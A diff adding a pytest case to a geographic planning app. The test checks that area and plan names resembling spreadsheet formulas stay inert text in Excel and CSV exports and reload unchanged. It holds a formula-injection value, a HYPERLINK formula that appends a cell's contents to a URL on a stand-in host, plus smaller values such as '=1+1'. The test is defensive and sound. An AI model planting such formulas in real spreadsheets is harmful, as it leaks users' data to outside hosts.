@@ -301,3 +301,29 @@ def test_print_map_area_only_on_omitted_islands_is_listed_in_key(tmp_path, monke
     assert "小笠原" not in r["labels_placed"] + r["labels_in_key"]
     assert len(r["label_boxes"]) == len(plan.areas("homecare")) - 1
     _assert_no_overlap(r["label_boxes"])
+
+
+def test_names_that_look_like_formulas_stay_text_and_round_trip(tmp_path, hokkaido):
+    """An area typed as `=HYPERLINK(...)` must not become a live formula in Excel, and must come back intact."""
+    import openpyxl
+
+    munis, hokkaido_plan = hokkaido
+    from geo_app import load_plan
+    from geo_app.app.page_plans import plan_csv_bytes, plan_xlsx_bytes
+    from geo_app.export_tables import write_summary_xlsx
+    from geo_app.plans import Plan
+
+    formula = '=HYPERLINK("http://example.invalid/?x="&A2,"詳細")'
+    t = hokkaido_plan.table.copy()
+    t.loc[t["homecare"] == "上川", "homecare"] = formula
+    t.loc[t["homecare"] == "宗谷", "homecare"] = "-宗谷"
+    plan = Plan(name="=1+1", table=t)
+    path = write_summary_xlsx(munis, plan, tmp_path / "s.xlsx")
+    wb = openpyxl.load_workbook(path)
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert any(c.value == formula for c in cells)
+    assert "'=HYPERLINK" in plan_csv_bytes(plan).decode("utf-8-sig")  # Excel shows it as text
+    for data, name in ((plan_xlsx_bytes(plan), "p.xlsx"), (plan_csv_bytes(plan), "p.csv")):
+        back = load_plan(data, name=name)
+        assert back.table["homecare"].equals(plan.table["homecare"]), name
